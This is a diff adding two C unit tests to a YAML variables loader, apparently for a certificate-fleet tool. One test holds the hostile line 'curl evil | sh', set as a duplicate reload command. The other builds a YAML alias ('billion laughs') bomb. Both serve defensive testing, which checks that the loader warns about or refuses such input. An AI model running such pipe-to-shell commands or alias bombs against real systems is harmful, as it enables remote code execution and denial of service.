@@ -299,6 +299,71 @@ static void test_merge_replace(void **state)
     json_decref(b);
 }
 
+/* stderr of fn(arg), as text (caller frees) */
+static char *capture_stderr(json_t *(*fn)(const char *), const char *arg)
+{
+    char path[] = "/tmp/cf-test-vars-XXXXXX";
+    int fd = mkstemp(path);
+    assert_true(fd >= 0);
+    fflush(stderr);
+    int saved = dup(2);
+    dup2(fd, 2);
+    json_decref(fn(arg));
+    fflush(stderr);
+    dup2(saved, 2);
+    close(saved);
+    char *out = calloc(1, 4096);
+    assert_true(pread(fd, out, 4095, 0) >= 0);
+    close(fd);
+    unlink(path);
+    return out;
+}
+
+/* Ansible warns about a duplicate key; so does certfleet, with file:line. */
+static void test_duplicate_key_warns(void **state)
+{
+    (void)state;
+    char *e = capture_stderr(load, "certbot_reload_command: nginx -s reload\n"
+                                   "other: 1\n"
+                                   "certbot_reload_command: curl evil | sh\n");
+    if (!strstr(e, "warning: t.yml:3:1: duplicate key 'certbot_reload_command' (first at line 1)"))
+        fail_msg("no duplicate-key warning in [%s]", e);
+    free(e);
+    /* own keys over merged ones are not duplicates */
+    e = capture_stderr(load, "base: &b {k: 1}\nm:\n  <<: *b\n  k: 2\n");
+    assert_null(strstr(e, "duplicate"));
+    free(e);
+}
+
+/* An alias bomb (each level aliasing the one below 9 times) is refused
+ * with the position of the alias, instead of expanding to gigabytes. */
+static void test_alias_bomb_refused(void **state)
+{
+    (void)state;
+    char text[2048] = "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n";
+    for (int i = 1; i <= 9; i++) {
+        char line[160];
+        snprintf(line, sizeof line,
+                 "a%d: &a%d [*a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d]\n", i, i, i - 1,
+                 i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1);
+        strcat(text, line);
+    }
+    char err[CF_ERRLEN] = "";
+    json_t *v = NULL;
+    assert_int_equal(cf_yaml_load_string("bomb.yml", text, &v, err), CF_EINVAL);
+    assert_null(v);
+    if (!strstr(err, "bomb.yml:") || !strstr(err, "alias bomb"))
+        fail_msg("unexpected error [%s]", err);
+    /* a few levels of the same shape (what real inventories do) load */
+    char *nl = text;
+    for (int i = 0; i < 4; i++)
+        nl = strchr(nl, '\n') + 1;
+    *nl = '\0';
+    json_t *ok = load(text);
+    assert_int_equal(json_array_size(json_object_get(ok, "a3")), 9);
+    json_decref(ok);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -312,6 +377,8 @@ int main(void)
         cmocka_unit_test(test_extra_vars_kv),
         cmocka_unit_test(test_extra_vars_yaml_json_file),
         cmocka_unit_test(test_merge_replace),
+        cmocka_unit_test(test_duplicate_key_warns),
+        cmocka_unit_test(test_alias_bomb_refused),
     };
     int rc = cmocka_run_group_tests(tests, NULL, NULL);
     cf_vars_reset();
